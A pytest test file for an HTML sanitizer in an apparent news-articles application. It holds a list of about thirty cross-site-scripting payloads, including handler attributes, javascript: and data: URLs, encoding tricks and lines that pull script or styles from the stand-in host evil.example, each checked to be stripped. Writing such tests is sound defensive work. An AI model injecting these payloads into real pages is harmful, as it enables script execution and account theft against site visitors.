import pytest

from articles.sanitize import html_to_text, sanitize_html

# (payload, a string that must not survive)
HOSTILE = [
    ("<script>alert(1)</script>", "<script"),
    ("<p>ok</p><script>alert(1)</script>", "alert"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil"),
    ('<img src=x onerror="alert(1)">', "onerror"),
    ('<p onclick="alert(1)">click</p>', "onclick"),
    ('<a href="javascript:alert(1)">x</a>', "javascript:"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "alert"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "alert"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "alert"),
    ('<a href=" javascript:alert(1)">x</a>', "alert"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data:"),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "data:"),
    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
    ("<svg onload=alert(1)><circle/></svg>", "onload"),
    ("<svg><script>alert(1)</script></svg>", "alert"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "onerror"),
    ("<style>@import 'http://evil.example/x.css';</style>", "evil"),
    ('<iframe src="https://evil.example/"></iframe>', "iframe"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "alert"),
    ('<object data="javascript:alert(1)"></object>', "object"),
    ('<embed src="javascript:alert(1)">', "embed"),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "refresh"),
    ('<base href="https://evil.example/">', "base"),
    ('<form action="https://evil.example/"><input name=x></form>', "form"),
    ('<div style="background:url(javascript:alert(1))">x</div>', "style"),
    ("<template><img src=x onerror=alert(1)></template>", "onerror"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "onerror"),
    ("<textarea><script>alert(1)</script></textarea>", "alert"),
    ("<!--<script>alert(1)</script>-->", "alert"),
    ('<a href="https://ok.example/" onmouseover="alert(1)">x</a>', "onmouseover"),
    ("<scr<script>ipt>alert(1)</script>", "<script"),
    ('<img """><script>alert(1)</script>">', "<script"),
]


@pytest.mark.parametrize(("payload", "forbidden"), HOSTILE)
def test_hostile_markup_never_survives(payload, forbidden):
    cleaned = sanitize_html(payload)
    assert forbidden.lower() not in cleaned.lower()
    # Whatever is left, a second pass changes nothing: the output is stable.
    assert sanitize_html(cleaned) == cleaned


def test_news_structure_is_kept():
    html = (
        "<h2>Heading</h2><p>Para with <em>emphasis</em>, <strong>strong</strong> and "
        '<a href="https://example.org/story" title="Story">a link</a>.</p>'
        "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>"
        '<blockquote cite="https://example.org/">A quote.</blockquote>'
        '<figure><img src="https://example.org/p.jpg" alt="A photo">'
        "<figcaption>Caption</figcaption></figure>"
    )
    cleaned = sanitize_html(html)
    for kept in (
        "<h2>Heading</h2>",
        "<em>emphasis</em>",
        "<strong>strong</strong>",
        "<ul><li>one</li><li>two</li></ul>",
        "<ol><li>first</li></ol>",
        '<blockquote cite="https://example.org/">A quote.</blockquote>',
        '<img src="https://example.org/p.jpg" alt="A photo">',
        "<figcaption>Caption</figcaption>",
    ):
        assert kept in cleaned


def test_links_are_marked_nofollow_noopener_and_keep_safe_protocols():
    cleaned = sanitize_html(
        '<a href="https://a.example/" rel="opener" target="_blank">web</a>'
        '<a href="mailto:desk@example.org">mail</a>'
    )
    assert cleaned == (
        '<a href="https://a.example/" rel="nofollow noopener">web</a>'
        '<a href="mailto:desk@example.org" rel="nofollow noopener">mail</a>'
    )


def test_script_content_goes_with_the_script():
    assert sanitize_html("<p>Before <script>var x = 1;</script>after</p>") == (
        "<p>Before after</p>"
    )


def test_page_title_stays_the_only_h1():
    assert sanitize_html("<h1>Title</h1><p>x</p>") == "<h2>Title</h2><p>x</p>"


def test_text_with_angle_brackets_is_escaped_not_dropped():
    assert sanitize_html("<p>1 < 2 & 3 > 2</p>") == "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"


def test_broken_markup_is_closed():
    assert sanitize_html("<p>unclosed <b>bold") == "<p>unclosed <b>bold</b></p>"


def test_empty_and_nul():
    assert sanitize_html("") == ""
    assert sanitize_html("<p>a\x00b</p>") == "<p>ab</p>"


def test_plain_text_keeps_table_cells_apart():
    html = (
        "<table><tr><th>Rank</th><th>Province</th><th>Claims</th></tr>"
        "<tr><td>1</td><td>Kyle Busch</td><td>5040</td></tr></table>"
    )
    assert html_to_text(html) == "Rank Province Claims\n1 Kyle Busch 5040"


def test_plain_text_breaks_lines_at_blocks_only():
    html = "<table><tr><td><strong>Pos.</strong></td>\n<td>Driver</td></tr></table><p>one\ntwo</p>"
    assert html_to_text(html) == "Pos. Driver\none two"
    assert html_to_text("<pre>line one\nline two</pre>") == "line one\nline two"
